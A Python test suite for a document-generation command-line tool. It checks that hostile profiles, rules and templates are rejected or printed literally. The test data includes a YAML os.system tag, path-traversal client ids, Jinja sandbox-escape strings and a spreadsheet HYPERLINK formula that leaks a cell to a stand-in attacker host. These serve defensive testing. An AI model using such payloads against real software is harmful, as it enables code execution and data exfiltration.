"""Hostile input and failure hardening (issue 6): nothing lost, nothing leaked, every error clear.

Every case drives the real command line (``click.testing.CliRunner`` on :func:`engine.cli.main`,
or a subprocess when a signal must be sent) and checks three things: the exit code, the message
fragments (file, line, column, key path) and the output tree (no partial file, no extra file).

Fixtures live in ``tests/bad_inputs/``: ``profiles/*.yaml`` are rejected, one per case;
``profiles/accepted/*.yaml`` are hostile but valid and must render literally;
``profiles/same_id/`` holds two profiles with one client id; ``rules/<case>/`` and
``templates/<case>/`` hold one broken rule file or template each. A few inputs are made at run
time instead: files over the size limit (a repository should not hold megabytes of junk),
FIFOs and device links (git cannot store them), and profiles named ``con.yaml`` or ``NUL.yaml``
(a Windows checkout of the repository would fail on them).
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from lxml import etree  # type: ignore[import-untyped, unused-ignore]

from engine.cli import main
from engine.documents.render import document_text
from engine.documents.typography import typeset
from engine.profile import yamlio

ROOT = Path(__file__).resolve().parent.parent
BAD = Path(__file__).resolve().parent / "bad_inputs"
PROFILES = BAD / "profiles"
ACCEPTED = PROFILES / "accepted"
RULES = ROOT / "rules"
TEMPLATES = ROOT / "doc_templates"
GOOD = Path(__file__).resolve().parent / "data" / "profiles" / "dupont.yaml"
AS_OF = "2026-11-26"
DOCS = ("charte-ia.docx", "brief-dsi.docx", "rapport-audit.docx")
CLIENT_FILES = frozenset({*DOCS, "assessment.json", "dossier-travail.xlsx"})
SUMMARIES = frozenset({"summary.csv", "summary.xlsx", "index.html"})  # the portfolio views
# "file:line:column: key.path: message", or "file: message" for a whole-file problem.
ERROR_LINE = re.compile(r"^error: (?P<file>[^:]+?)(?::(?P<line>\d+)(?::(?P<column>\d+))?)?: \S")
WHOLE_FILE = {"binary.yaml", "empty.yaml"}  # no line to point at: the whole file is wrong


# --- helpers --------------------------------------------------------------------------------


def iapme(*args: object) -> Result:
    """Run the CLI in-process; a user error must never end in a traceback."""
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert "Traceback" not in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result


def run(out: Path, *paths: object, rules: Path = RULES, templates: Path = TEMPLATES,
        jobs: int = 1) -> Result:
    return iapme("run", *paths, "--out", out, "--rules", rules, "--templates", templates,
                 "--jobs", jobs, "--as-of", AS_OF)


def error_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith("error: ")]


def visible_tree(out: Path) -> set[str]:
    """Every file and folder under ``out`` whose name does not start with a dot."""
    if not out.exists():
        return set()
    return {str(p.relative_to(out)) for p in out.rglob("*")
            if not any(part.startswith(".") for part in p.relative_to(out).parts)}


def partials(out: Path) -> list[Path]:
    """Temporary files a write leaves while it runs (``.x.part``, ``.x.tmp``)."""
    if not out.exists():
        return []
    return [p for p in out.rglob(".*") if p.suffix in {".part", ".tmp"}]


def client_tree(*client_ids: str) -> set[str]:
    """The visible tree of an output folder holding exactly these clients."""
    tree = {*SUMMARIES, "manifest.json"}
    for client_id in client_ids:
        tree |= {client_id} | {f"{client_id}/{name}" for name in CLIENT_FILES}
    return tree


def assert_complete(out: Path) -> None:
    """Every visible file is whole: zips pass their CRC check and open, JSON parses."""
    for name in visible_tree(out):
        path = out / name
        if path.is_dir():
            continue
        data = path.read_bytes()
        if path.suffix in {".docx", ".xlsx"}:
            with zipfile.ZipFile(path) as archive:
                assert archive.testzip() is None, name
                for entry in archive.namelist():
                    if entry.endswith((".xml", ".rels")):
                        etree.fromstring(archive.read(entry))  # strict parser: no recovery
            if path.suffix == ".docx":
                document_text(data)
        elif path.suffix == ".json":
            json.loads(data)
        elif path.suffix == ".csv":
            assert data.decode("utf-8").endswith("\n"), name


def write_profiles(folder: Path, count: int) -> list[str]:
    """``count`` valid profiles (copies of the good one with their own ids); their ids."""
    folder.mkdir(parents=True, exist_ok=True)
    text = GOOD.read_text(encoding="utf-8")
    ids = [f"client-{n:02d}" for n in range(1, count + 1)]
    for client_id in ids:
        (folder / f"{client_id}.yaml").write_text(
            text.replace("client:\n", f"client:\n  id: {client_id}\n", 1), encoding="utf-8")
    return ids


# --- profiles: one fixture per case ---------------------------------------------------------

# fixture -> every issue expected: ("line:column: key.path:" after the file name, fragments)
REJECTED: dict[str, list[tuple[str, list[str]]]] = {
    # YAML
    "alias_bomb.yaml": [("10:1: x4[1]:", ["too many nodes after alias expansion", "200,000"])],
    "duplicate_key.yaml": [("6:3: client.name:", [
        "duplicate key 'name'", "first at line 3", "again at line 6"])],
    "python_tag.yaml": [("3:9: client.name:", [
        "'!!python/object/apply:os.system' is not allowed"])],
    "custom_tag.yaml": [("4:11: client.sector:", ["the tag '!include' is not allowed"])],
    "non_utf8.yaml": [("3:13:", ["not valid UTF-8 (byte 0xE9)", "save the file as UTF-8"])],
    "binary.yaml": [("", ["binary file, not YAML"])],
    "empty.yaml": [("", ["the file is empty"])],
    "deep.yaml": [("52:101: assessment.level1.level2.", ["nesting is too deep", "50 levels"])],
    # values
    "control_char.yaml": [("3:9: client.name:", ["special character #x0007 is not allowed"])],
    "rtl_override.yaml": [("4:9: client.name:", ["U+202E", "text-direction"])],
    "long_string.yaml": [("3:9: client.name:", ["is too long (501 characters; at most 500)"])],
    "negative_number.yaml": [
        ("5:14: client.employees:", ["must be 0 or more, not -5"]),
        ("11:24: use_cases[0].roi.hourly_cost:", ["must be 0 or more, not -40"]),
    ],
    "huge_number.yaml": [
        ("6:24: client.annual_turnover_eur:", ["must be at most 1,000,000,000,000"]),
        ("12:30: use_cases[0].process.runs_per_week:", ["must be at most 100,000"]),
    ],
    "infinite_number.yaml": [("6:24: client.annual_turnover_eur:", ["'1e999' is too large"])],
    "nan_number.yaml": [
        ("6:24: client.annual_turnover_eur:", ["'.nan'", "NaN and infinity are not allowed"]),
        ("7:33: client.monthly_operating_budget_eur:", ["'-Infinity'", "not allowed"]),
    ],
    "wrong_types.yaml": [
        ("3:9: client.name:", ["expected text, got a list"]),
        ("4:11: client.sector:", ["5 is not an allowed value", "artisan, ecommerce"]),
        ("5:14: client.employees:", ["got the text '12'; remove the quotes"]),
        ("6:22: client.staff_ai_training:", ["'yes' is not an allowed value", "true or false"]),
        ("7:18: client.works_council:", ["1 is not an allowed value"]),
        ("9:9: assessment.date:", ["expected a date written YYYY-MM-DD", "got 20261126"]),
        ("11:3: vendors:", ["expected a list"]),
        ("14:12: use_cases[0].title:", ["expected text, got 42; put the value between quotes"]),
        ("17:28: use_cases[0].system.capabilities:", ["expected a list", "got 'chatbot'"]),
        ("17:53: use_cases[0].system.biometric_data:", ["'false' is text", "remove the quotes"]),
        ("20:18: use_cases[0].pilot.weeks[0].week:", ["expected a whole number, got 1.5"]),
        ("20:37: use_cases[0].pilot.weeks[0].time_spent_h:", ["expected a number", "true"]),
        ("20:57: use_cases[0].pilot.weeks[0].time_saved_h:", ["the text '2'"]),
    ],
    "unknown_keys.yaml": [
        ("4:3: client.sectr:", ["unknown key 'sectr'. Did you mean 'sector'?"]),
        ("6:3: client.first name:", ["unknown key 'first name'", "Allowed keys here"]),
        ("7:1: usecases:", ["unknown key 'usecases'. Did you mean 'use_cases'?"]),
        ("1:1: client.sector:", ["required but missing"]),
    ],
    "bad_enum.yaml": [
        ("4:11: client.sector:", ["'artisans' is not an allowed value", "Did you mean 'artisan'?"]),
        ("7:41: vendors[0].hosting:", ["'europe' is not an allowed value", "eu_eea"]),
        ("7:61: vendors[0].dpa_signed:", ["'yes'", "not read as booleans"]),
        ("12:12: use_cases[0].stage:", ["'pilote'", "Did you mean 'pilot'?"]),
        ("14:29: use_cases[0].system.capabilities[0]:", ["'chatbot' is not an allowed value"]),
    ],
    "date_out_of_range.yaml": [("7:9: assessment.date:", [
        "the date 9999-12-31 is out of range", "between 1900-01-01 and 2100-12-31"])],
    "missing_required.yaml": [
        ("1:1: client.name:", ["this key is required but missing"]),
        ("1:1: client.employees:", ["this key is required but missing"]),
        ("5:5: use_cases[0].title:", ["this key is required but missing"]),
    ],
    # identity
    "id_dotdot.yaml": [("2:7: client.id:", ["'../evil' cannot be a client id", "no '/', '.'"])],
    "id_absolute.yaml": [("2:7: client.id:", ["'/etc/cron.d/x' cannot be a client id"])],
    "id_windows_path.yaml": [("2:7: client.id:", ["'..\\\\evil' cannot be a client id"])],
    "id_reserved.yaml": [("2:7: client.id:", ["'con' is a name Windows reserves for a device"])],
    "id_reserved_upper.yaml": [("2:7: client.id:", ["'NUL' cannot be a client id"])],
    "id_uppercase.yaml": [("2:7: client.id:", [
        "'Plomberie-Martin' cannot be a client id", "Did you mean 'plomberie-martin'?"])],
    "id_too_long.yaml": [("2:7: client.id:", ["cannot be a client id", "1 to 63"])],
}
# The escape "\ud800" is refused by libyaml's scanner, and by our check with the pure-Python one.
LONE_SURROGATE = ("3:", ["invalid Unicode character escape code", "special character #xD800"])


def _check_issues(output: str, shown: str, expected: list[tuple[str, list[str]]]) -> None:
    """Each expected issue is one ``error:`` line of ``shown`` with all its fragments."""
    lines = [line for line in error_lines(output) if line.startswith(f"error: {shown}")]
    assert len(lines) == len(expected), output
    for where, fragments in expected:
        prefix = f"error: {shown}:{where}" if where else f"error: {shown}: "
        matching = [line for line in lines if line.startswith(prefix)]
        assert matching, f"no line starts with {prefix!r} in:\n{output}"
        for fragment in fragments:
            assert any(fragment in line for line in matching), (fragment, matching)


class TestRejectedProfiles:
    """Each hostile profile is refused with its file, line, column and key path."""

    def test_every_fixture_has_a_case(self) -> None:
        present = {p.name for p in PROFILES.glob("*.yaml")}
        assert present == set(REJECTED) | {"lone_surrogate.yaml"}

    @pytest.mark.parametrize("name", sorted(REJECTED))
    def test_validate_names_file_line_and_key(self, name: str) -> None:
        result = iapme("validate", PROFILES / name)
        assert result.exit_code == 1
        _check_issues(result.output, str(PROFILES / name), REJECTED[name])
        assert result.output.endswith("0 valid, 1 invalid\n")
        for line in error_lines(result.output):
            match = ERROR_LINE.match(line)
            assert match, line
            assert (match["line"] is None) == (name in WHOLE_FILE), line

    @pytest.mark.parametrize("name", ["python_tag.yaml", "wrong_types.yaml", "deep.yaml"])
    def test_assess_refuses_too(self, name: str) -> None:
        result = iapme("assess", PROFILES / name, "--rules", RULES)
        assert result.exit_code == 1
        assert error_lines(result.output)[0].startswith(f"error: {PROFILES / name}:")

    @pytest.mark.parametrize("loader", ["_PyLoader", "_CLoader"])
    def test_lone_surrogate_with_either_yaml_reader(
        self, loader: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A lone surrogate cannot be written as UTF-8: it must never reach a document."""
        if not hasattr(yamlio, loader):
            pytest.skip("libyaml is not installed")
        monkeypatch.setattr(yamlio, "_LOADER", getattr(yamlio, loader))
        shown = str(PROFILES / "lone_surrogate.yaml")
        result = iapme("validate", shown)
        assert result.exit_code == 1
        (line,) = error_lines(result.output)
        assert line.startswith(f"error: {shown}:{LONE_SURROGATE[0]}")
        assert any(fragment in line for fragment in LONE_SURROGATE[1])

    def test_run_rejects_all_and_writes_no_client(self, tmp_path: Path) -> None:
        """One batch over every fixture: exit 1, each file listed, no client folder."""
        out = tmp_path / "out"
        result = run(out, PROFILES)
        assert result.exit_code == 1
        for name, expected in REJECTED.items():
            _check_issues(result.output, str(PROFILES / name), expected)
        assert f"0 written, 0 unchanged, {len(REJECTED) + 1} failed" in result.output
        assert visible_tree(out) == client_tree()
        assert (out / "summary.csv").read_text(encoding="utf-8").count("\n") == 1
        assert partials(out) == []

    def test_python_tag_runs_nothing(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.chdir(tmp_path)
        assert iapme("validate", PROFILES / "python_tag.yaml").exit_code == 1
        assert not (tmp_path / "iapme-pwned").exists()

    def test_file_over_the_size_limit(self, tmp_path: Path) -> None:
        """A 2 MB profile and a 10 GB sparse one are refused from their size, without being
        read: the run stays fast and its memory does not grow."""
        folder = tmp_path / "in"
        folder.mkdir()
        big = folder / "big.yaml"
        big.write_text("client: {id: big, name: B, sector: other, employees: 1}\n"
                       + "# padding\n" * 200_000, encoding="utf-8")
        with (folder / "sparse.yaml").open("wb") as handle:
            handle.truncate(10 * 10**9)
        shutil.copy(GOOD, folder / GOOD.name)
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        start = time.monotonic()
        result = run(tmp_path / "out", folder)
        assert time.monotonic() - start < 30
        assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # kB
        assert result.exit_code == 1
        assert f"error: {big}: the file is 2.0 MB; the limit is 1.0 MB" in result.output
        assert f"error: {folder / 'sparse.yaml'}: the file is 10.0 GB; the limit is 1.0 MB" \
            in result.output
        assert visible_tree(tmp_path / "out") == client_tree("dupont")

    @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
    def test_fifo_and_device_are_refused_without_reading(self, tmp_path: Path) -> None:
        """A named pipe would block a reader forever and /dev/zero never ends: both are refused
        from their type (a subprocess with a timeout, in case it ever hangs)."""
        folder = tmp_path / "in"
        folder.mkdir()
        os.mkfifo(folder / "pipe.yaml")
        (folder / "zero.yaml").symlink_to("/dev/zero")
        shutil.copy(GOOD, folder / GOOD.name)
        out = tmp_path / "out"
        done = subprocess.run(
            [sys.executable, "-m", "engine", "run", str(folder), "--out", str(out), "--rules",
             str(RULES), "--templates", str(TEMPLATES), "--jobs", "1", "--as-of", AS_OF],
            capture_output=True, text=True, timeout=120, cwd=tmp_path, check=False)
        assert done.returncode == 1, done.stderr
        assert "Traceback" not in done.stderr
        special = "this is a special file, not a regular file"
        assert f"error: {folder / 'pipe.yaml'}: {special}" in done.stderr
        assert f"error: {folder / 'zero.yaml'}: {special}" in done.stderr
        assert visible_tree(out) == client_tree("dupont")

    def test_ids_taken_from_file_names(self, tmp_path: Path) -> None:
        """Without client.id the file name is the id: device names and names that are not
        ids are refused (made here: a Windows checkout would choke on con.yaml)."""
        folder = tmp_path / "in"
        folder.mkdir()
        body = "client:\n  name: Client\n  sector: other\n  employees: 2\n"
        for name in ("con.yaml", "NUL.yaml", "Mon Profil.yaml", "lpt1.yml", "Dupont-SA.yaml"):
            (folder / name).write_text(body, encoding="utf-8")
        out = tmp_path / "out"
        result = run(out, folder)
        assert result.exit_code == 1
        for stem in ("con", "NUL", "Mon Profil", "lpt1"):
            suffix = ".yml" if stem == "lpt1" else ".yaml"
            assert (f"error: {folder / (stem + suffix)}:1:1: client: the file name '{stem}' "
                    "cannot serve as client id") in result.output
        assert visible_tree(out) == client_tree("dupont-sa")

    @pytest.mark.parametrize("jobs", [1, 2])
    def test_two_profiles_with_one_client_id(self, tmp_path: Path, jobs: int) -> None:
        """The second file is refused, naming both files and lines; the first is written."""
        out = tmp_path / "out"
        result = run(out, PROFILES / "same_id", jobs=jobs)
        assert result.exit_code == 1
        first, second = PROFILES / "same_id" / "first.yaml", PROFILES / "same_id" / "second.yaml"
        (line,) = error_lines(result.output)
        assert line == (f"error: {second}:4:7: client.id: client id 'plomberie-martin' is already "
                        f"used by {first} (line 2); give each client its own id (this file was "
                        "not processed)")
        assert visible_tree(out) == client_tree("plomberie-martin")
        data = json.loads((out / "plomberie-martin" / "assessment.json").read_text("utf-8"))
        assert data["client"]["name"] == "Plomberie Martin (Lyon)"


# --- values that must come out literally ----------------------------------------------------

MARKED = re.compile(r"T(\d\d) ")
INJECTION = ("{{ 7*191 }} {% if true %}yes{% endif %} {%p if x %} {%tr for r in rows %} "
             "{{r x }} {# c #} {{ ''.__class__ }} <w:p>&amp; &#x41; ]]> \"dq\" 'sq' & < >")
SET_INJECTION = typeset(INJECTION)
# Fields the documents show today (T07 e-mail, T13 success indicator and T14-T16 pilot notes
# are in no document); each must be found, and every text of every field must be literal.
SHOWN_FIELDS = {1, 2, 3, 4, 5, 6, 8, 9, 10, 11, 12}


@pytest.fixture(scope="module")
def accepted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("accepted") / "out"
    result = run(out, ACCEPTED)
    assert result.exit_code == 0, result.output
    return out


class TestLiteralValues:
    """Hostile but valid text is printed as written, never run, never escaped twice."""

    def test_every_file_is_whole_and_valid_xml(self, accepted: Path) -> None:
        ids = ("docxtpl-escapes", "formula", "injection", "limits", "tiny-numbers")
        assert visible_tree(accepted) == client_tree(*ids)
        assert_complete(accepted)

    def test_jinja_and_xml_in_every_text_field_stay_literal(self, accepted: Path) -> None:
        found: set[int] = set()
        for name in DOCS:
            text = document_text((accepted / "injection" / name).read_bytes())
            assert "1337" not in text, name  # nothing was evaluated
            assert "<class" not in text, name
            for match in MARKED.finditer(text):
                found.add(int(match.group(1)))
                # set the French way like any text (typography.py), never evaluated
                literal = text[match.end():match.end() + len(SET_INJECTION)]
                assert literal == SET_INJECTION, (name, match.group(0), literal)
        assert found >= SHOWN_FIELDS

    def test_document_titles_stay_literal(self, accepted: Path) -> None:
        import docx

        for name in DOCS:
            title = docx.Document(str(accepted / "injection" / name)).core_properties.title
            assert title.endswith(typeset(f"T01 {INJECTION}")), title

    def test_docxtpl_escapes_in_values_stay_literal(self, accepted: Path) -> None:
        for name in DOCS:
            text = document_text((accepted / "docxtpl-escapes" / name).read_bytes())
            assert "Atelier {_{ nom }_} et {_% bloc %_}" in text, name

    def test_formula_is_inert_in_summaries_and_literal_in_documents(self, accepted: Path) -> None:
        from openpyxl import load_workbook

        name = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
        csv_text = (accepted / "summary.csv").read_text(encoding="utf-8")
        assert "\nformula,\"'=HYPERLINK(" in csv_text
        sheet = load_workbook(accepted / "summary.xlsx").active
        cells = [row for row in sheet.iter_rows() if row[0].value == "'" + name]  # the client
        assert len(cells) == 1
        assert cells[0][0].data_type == "s"
        text = document_text((accepted / "formula" / "rapport-audit.docx").read_bytes())
        assert name in text
        assert "'" + name not in text

    def test_tiny_numbers_are_rounded_not_fatal(self, accepted: Path) -> None:
        data = json.loads((accepted / "tiny-numbers" / "assessment.json").read_text("utf-8"))
        (use_case,) = data["use_cases"]
        assert use_case["roi"]["annual_cost"] == 0

    def test_limits_are_accepted(self, accepted: Path) -> None:
        name = (ACCEPTED / "limits.yaml").read_text(encoding="utf-8").split('name: "')[1][:500]
        text = document_text((accepted / "limits" / "rapport-audit.docx").read_bytes())
        assert typeset(name.strip()) in text  # set the French way like any text
        assert not re.search(r"\b(nan|inf|None)\b|e\+\d", text)
        result = iapme("assess", ACCEPTED / "limits.yaml", "--rules", RULES, "--json")
        assert result.exit_code == 0, result.output
        assert json.loads(result.stdout)["as_of"] == "2100-12-31"  # the profile's own date


# --- identity and paths ---------------------------------------------------------------------


class TestOutputPaths:
    """The output tree is never left through a link, and a file is never half replaced."""

    def test_output_folder_that_is_a_symlink(self, tmp_path: Path) -> None:
        real = tmp_path / "real"
        real.mkdir()
        (tmp_path / "link").symlink_to(real)
        result = run(tmp_path / "link", GOOD)
        assert result.exit_code == 1
        assert (f"error: {tmp_path / 'link'}: the output folder is a symbolic link; give a real "
                "folder") in result.output
        assert list(real.iterdir()) == []

    def test_client_folder_that_is_a_symlink(self, tmp_path: Path) -> None:
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        out = tmp_path / "out"
        out.mkdir()
        (out / "dupont").symlink_to(elsewhere)
        result = run(out, GOOD)
        assert result.exit_code == 1
        assert f"error: {out / 'dupont'}: the client folder is a symbolic link" in result.output
        assert list(elsewhere.iterdir()) == []

    def test_deliverable_that_is_a_symlink_is_never_followed(self, tmp_path: Path) -> None:
        """A link planted where a document goes: the link is replaced, its target untouched."""
        victim = tmp_path / "victim.txt"
        victim.write_text("secret", encoding="utf-8")
        out = tmp_path / "out"
        (out / "dupont").mkdir(parents=True)
        (out / "dupont" / "charte-ia.docx").symlink_to(victim)
        result = run(out, GOOD)
        assert result.exit_code == 0
        assert "protected:" in result.output  # not ours: kept and reported
        result = iapme("run", GOOD, "--out", out, "--rules", RULES, "--templates", TEMPLATES,
                       "--jobs", 1, "--as-of", AS_OF, "--force")
        assert result.exit_code == 0
        assert victim.read_text(encoding="utf-8") == "secret"
        assert not (out / "dupont" / "charte-ia.docx").is_symlink()
        assert_complete(out)

    def test_output_folder_that_is_a_file(self, tmp_path: Path) -> None:
        out = tmp_path / "out"
        out.write_text("not a folder", encoding="utf-8")
        result = run(out, GOOD)
        assert result.exit_code == 1
        assert f"error: {out}: cannot create the output folder" in result.output
        assert out.read_text(encoding="utf-8") == "not a folder"

    def test_client_folder_that_is_a_file(self, tmp_path: Path) -> None:
        out = tmp_path / "out"
        out.mkdir()
        (out / "dupont").write_text("keep me", encoding="utf-8")
        result = run(out, GOOD)
        assert result.exit_code == 1
        assert f"error: {out / 'dupont'}: exists but is not a folder" in result.output
        assert (out / "dupont").read_text(encoding="utf-8") == "keep me"
        assert partials(out) == []


# --- rules and templates --------------------------------------------------------------------

# case folder -> (file holding the problem, line, fragments)
BAD_RULES = {
    "yaml_syntax": ("broken.yaml", 6, ["invalid YAML"]),
    "python_tag": ("evil.yaml", 3, ["'!!python/object/apply:os.system' is not allowed"]),
    "unknown_field": ("misspelt.yaml", 6, [
        "use_case.system.capabilites", "Did you mean 'use_case.system.capabilities'?"]),
    "unknown_operator": ("operator.yaml", 6, ["containz", "Did you mean 'contains'?"]),
    "duplicate_id": ("b.yaml", 2, ["test.same-id", "duplicate id", "a.yaml:2"]),
    "not_a_list": ("rules.yaml", 1, ["'rules:' list"]),
    "alias_bomb": ("bomb.yaml", 6, ["too many nodes after alias expansion"]),
}
# case folder -> fragments; the broken template replaces its namesake in a copy of doc_templates.
# Each .docx is a minimal package ([Content_Types].xml, _rels/.rels, word/document.xml) whose
# paragraphs are the ones quoted in the messages, so it does not depend on the real templates.
BAD_TEMPLATES = {
    "syntax_error": ["brief-dsi.docx: body: Jinja syntax error", "'endif'",
                     "(near «{% if client.name %}»)"],
    "unknown_variable": ["rapport-audit.docx: body: variable 'clent'", "Did you mean 'client'?"],
    "bad_filter": ["charte-ia.docx: body: Jinja syntax error: No filter named 'system'"],
    "not_a_docx": ["rapport-audit.docx: is not a Word .docx file"],
}
SANDBOX = {
    "sandbox_mro": ["charte-ia.docx: body: '__class__'", "reaches Python internals"],
    "sandbox_globals": ["brief-dsi.docx: body:", "'__init__'", "reaches Python internals"],
}


def _templates_with(tmp_path: Path, case: str) -> Path:
    folder = tmp_path / "templates"
    shutil.copytree(TEMPLATES, folder)
    for path in (BAD / "templates" / case).iterdir():
        shutil.copy(path, folder / path.name)
    return folder


class TestRulesAndTemplates:
    """A broken rule file or template stops the run before anything is written."""

    def test_every_fixture_has_a_case(self) -> None:
        assert {p.name for p in (BAD / "rules").iterdir()} == set(BAD_RULES)
        assert {p.name for p in (BAD / "templates").iterdir()} == set(BAD_TEMPLATES) | set(SANDBOX)

    @pytest.mark.parametrize("case", sorted(BAD_RULES))
    def test_bad_rule_file(self, case: str, tmp_path: Path,
                           monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.chdir(tmp_path)
        rules = tmp_path / "rules"
        shutil.copytree(RULES, rules)
        shutil.copytree(BAD / "rules" / case, rules / "hostile")
        name, line, fragments = BAD_RULES[case]
        shown = f"{rules / 'hostile' / name}:{line}:"
        for result in (run(tmp_path / "out", GOOD, rules=rules),
                       iapme("rules", "lint", "--rules", rules)):
            assert result.exit_code == 1
            lines = [x for x in result.output.splitlines() if shown in x]
            assert lines, result.output
            for fragment in fragments:
                assert any(fragment in x for x in lines), (fragment, lines)
        assert visible_tree(tmp_path / "out") == set()  # at most the folder and its lock
        assert partials(tmp_path / "out") == []
        assert not (tmp_path / "iapme-pwned").exists()

    @pytest.mark.parametrize("case", sorted(BAD_TEMPLATES))
    def test_bad_template(self, case: str, tmp_path: Path) -> None:
        templates = _templates_with(tmp_path, case)
        for result in (run(tmp_path / "out", GOOD, templates=templates),
                       iapme("templates", "check", "--templates", templates)):
            assert result.exit_code == 1
            for fragment in BAD_TEMPLATES[case]:
                assert f"{templates}/" in result.output
                assert fragment in result.output, (fragment, result.output)
        assert visible_tree(tmp_path / "out") == set()  # at most the folder and its lock
        assert partials(tmp_path / "out") == []

    @pytest.mark.parametrize("case", sorted(SANDBOX))
    def test_template_cannot_reach_python_internals(
        self, case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """The template check refuses the attribute: nothing runs, no document is written."""
        monkeypatch.chdir(tmp_path)
        templates = _templates_with(tmp_path, case)
        out = tmp_path / "out"
        result = run(out, GOOD, templates=templates)
        assert result.exit_code == 1
        for fragment in SANDBOX[case]:
            assert fragment in result.output, result.output
        assert "dupont" not in visible_tree(out)
        assert not (tmp_path / "iapme-pwned").exists()

    @pytest.mark.parametrize("case", sorted(SANDBOX))
    def test_template_reaching_internals_stops_the_run_first(
        self, case: str, tmp_path: Path
    ) -> None:
        templates = _templates_with(tmp_path, case)
        assert iapme("templates", "check", "--templates", templates).exit_code == 1
        assert run(tmp_path / "out", GOOD, templates=templates).exit_code == 1
        assert visible_tree(tmp_path / "out") == set()


# --- faults: full disk, read-only folder, kill and Ctrl-C ------------------------------------


def _mount(*args: str) -> bool:
    try:
        done = subprocess.run(["mount", *args], capture_output=True, timeout=30, check=False)
    except (OSError, subprocess.TimeoutExpired):
        return False
    return done.returncode == 0


def _umount(path: Path) -> None:
    for command in (["umount", str(path)], ["umount", "-l", str(path)]):
        with contextlib.suppress(OSError, subprocess.TimeoutExpired):
            if subprocess.run(command, capture_output=True, timeout=30,
                              check=False).returncode == 0:
                return


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A real 512 kB tmpfs (room for about two clients); needs root (CAP_SYS_ADMIN)."""
    disk = tmp_path / "disk"
    disk.mkdir()
    if not _mount("-t", "tmpfs", "-o", "size=512k,mode=0755", "tmpfs", str(disk)):
        pytest.skip("cannot mount a tmpfs here (needs root); full disk not simulated")
    try:
        yield disk
    finally:
        _umount(disk)


@contextlib.contextmanager
def read_only(folder: Path) -> Iterator[str]:
    """Make ``folder`` read-only even for root; yields how.

    Root ignores file modes, so ``chmod`` proves nothing. In order of preference: a read-only
    bind mount of the folder onto itself (the kernel refuses every write: EROFS); the
    immutable attribute (``chattr +i``: EPERM, on ext2/3/4, xfs, btrfs...). The test is skipped
    when neither works (not root, or a filesystem without attributes).
    """
    if _mount("--bind", str(folder), str(folder)):
        if _mount("-o", "remount,bind,ro", str(folder)):
            try:
                yield "read-only bind mount"
            finally:
                _umount(folder)
            return
        _umount(folder)
    done = subprocess.run(["chattr", "+i", str(folder)], capture_output=True, check=False) \
        if shutil.which("chattr") else None
    if done is None or done.returncode != 0:
        pytest.skip("cannot make a folder read-only for root here (no mount, no chattr)")
    try:
        yield "chattr +i"
    finally:
        subprocess.run(["chattr", "-i", str(folder)], capture_output=True, check=False)


def _interruptible() -> None:
    """Ctrl-C as in a terminal, even when the tests run as a background job (which starts
    with SIGINT ignored, and Python keeps it ignored)."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


class TestFaults:
    """A full disk, a read-only folder, a kill or Ctrl-C: no truncated file, a clear message,
    and the next run completes."""

    def test_full_disk(self, small_disk: Path, tmp_path: Path) -> None:
        """Simulated with a real 512 kB tmpfs: six clients (about 200 kB each) do not fit."""
        ids = write_profiles(tmp_path / "in", 6)
        out = small_disk / "out"
        result = run(out, tmp_path / "in")
        assert result.exit_code == 1
        (line,) = error_lines(result.output)
        assert line.startswith(f"error: {out}"), line
        assert "cannot write: No space left on device" in line
        assert partials(out) == []
        assert_complete(out)
        assert _mount("-o", "remount,size=64m", str(small_disk))
        result = run(out, tmp_path / "in")
        assert result.exit_code == 0, result.output
        assert visible_tree(out) == client_tree(*ids)
        assert_complete(out)

    def test_read_only_output_folder(self, tmp_path: Path) -> None:
        out = tmp_path / "out"
        out.mkdir()
        with read_only(out):
            result = run(out, GOOD)
            assert result.exit_code == 1
            assert f"error: {out}: the output folder is read-only" in result.output
            assert visible_tree(out) == set()
        result = run(out, GOOD)
        assert result.exit_code == 0, result.output
        assert visible_tree(out) == client_tree("dupont")

    def test_read_only_client_folder(self, tmp_path: Path) -> None:
        """The output folder is writable but one client's folder is not: that write fails
        cleanly (no traceback, no partial file), and the next run completes."""
        ids = write_profiles(tmp_path / "in", 3)
        out = tmp_path / "out"
        (out / ids[1]).mkdir(parents=True)
        with read_only(out / ids[1]):
            result = run(out, tmp_path / "in")
            assert result.exit_code == 1
            (line,) = error_lines(result.output)
            assert line.startswith(f"error: {out / ids[1]}/"), line
            assert "cannot write: Read-only file system" in line or "Operation not permitted" \
                in line, line
            assert partials(out) == []
            assert_complete(out)
        result = run(out, tmp_path / "in")
        assert result.exit_code == 0, result.output
        assert visible_tree(out) == client_tree(*ids)

    @pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGINT], ids=["SIGKILL", "SIGINT"])
    def test_killed_mid_batch(self, sig: signal.Signals, tmp_path: Path) -> None:
        """The signal goes to the whole process group (parent and workers), as Ctrl-C in a
        terminal does, once a few clients are written. Ctrl-C ends with click's one-line
        'Aborted!', never a traceback from the parent or a worker."""
        ids = write_profiles(tmp_path / "in", 12)
        out = tmp_path / "out"
        command = [sys.executable, "-m", "engine", "run", str(tmp_path / "in"), "--out", str(out),
                   "--rules", str(RULES), "--templates", str(TEMPLATES), "--jobs", "2",
                   "--as-of", AS_OF]
        proc = subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, start_new_session=True,
                                preexec_fn=_interruptible)
        try:
            deadline = time.monotonic() + 120
            while time.monotonic() < deadline and proc.poll() is None:
